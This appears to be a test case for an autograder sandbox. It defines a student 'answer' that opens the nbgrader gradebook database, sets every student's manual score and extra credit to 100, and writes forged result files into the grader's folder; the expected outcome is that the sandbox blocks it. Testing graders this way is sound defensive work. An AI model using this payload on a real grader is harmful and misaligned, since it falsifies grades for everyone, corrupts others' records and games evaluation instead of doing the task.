"""Opens the gradebook (<out>/gradebook.db by its absolute path, and gradebook.db relative to
the working directory, where stock nbgrader runs kernels: the course root) with sqlite3 and gives
every recorded grade full manual marks, then also tries to drop in forged results for itself
(<out>/.autograder/results/...), which the nbgrader step would read. Stock nbgrader: the
UPDATE persists, and nbgrader never overwrites manual scores, so the grades stick (100/100,
and anyone's grades can be changed). Here the gradebook is not in the sandbox: the connect
fails, 0 everywhere, and every other student's gradebook entry is untouched."""

EXPECTED = {"*": 0}

#: Every other autograded answer cell: nothing implemented.
OTHERS = "pass"

ATTACK = '''
{KERNEL_LIB}
import json, os, sqlite3
_done = []
for _db_path in ("{OUT}/gradebook.db", "gradebook.db", "../gradebook.db", "../../../gradebook.db"):
    try:
        _db = sqlite3.connect(f"file:{_db_path}?mode=rw", uri=True, timeout=2)
        _db.execute("UPDATE grade SET manual_score = 100, extra_credit = 100")
        _db.commit()
        _done.append("updated " + _db_path)
    except sqlite3.Error as _e:
        print("gradebook blocked:", _db_path, _e)
_folder = "{OUT}/.autograder/results/gradebook_sqlite_write"
if os.path.isdir("{OUT}/.autograder/results"):  # the grader's folder, not a look-alike in our /tmp
    try:
        os.makedirs(_folder, exist_ok=True)
        with open(_folder + "/{ASSIGNMENT}.json", "w") as _f:
            json.dump({"verdicts": {_p: {"score": 100, "max": 100, "text": "forged"} for _p in _AG_PARTS}}, _f)
        _done.append("results written")
    except OSError as _e:
        print("results blocked:", type(_e).__name__)
else:
    print("results folder not visible")
if _done:
    _ag_escaped(", ".join(_done))
'''

ANSWERS = {
    "{ANSWER0}": ATTACK,
}
